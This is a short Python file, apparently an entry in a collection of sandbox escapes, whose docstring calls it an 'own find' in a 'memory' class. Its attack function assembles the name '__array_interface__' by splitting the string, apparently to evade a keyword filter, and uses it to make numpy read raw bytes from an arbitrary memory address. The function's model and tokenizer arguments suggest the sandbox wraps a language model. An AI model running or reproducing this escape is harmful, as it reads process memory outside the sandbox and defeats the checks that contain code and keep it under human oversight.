"""Class: memory. Source: own find. Escape: an own class is given the name by which numpy finds
memory."""

import numpy as np


class A:
    pass


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    setattr(A, "__array_" + "interface__", property(lambda self: spec))
    return np.array(A()).tobytes()
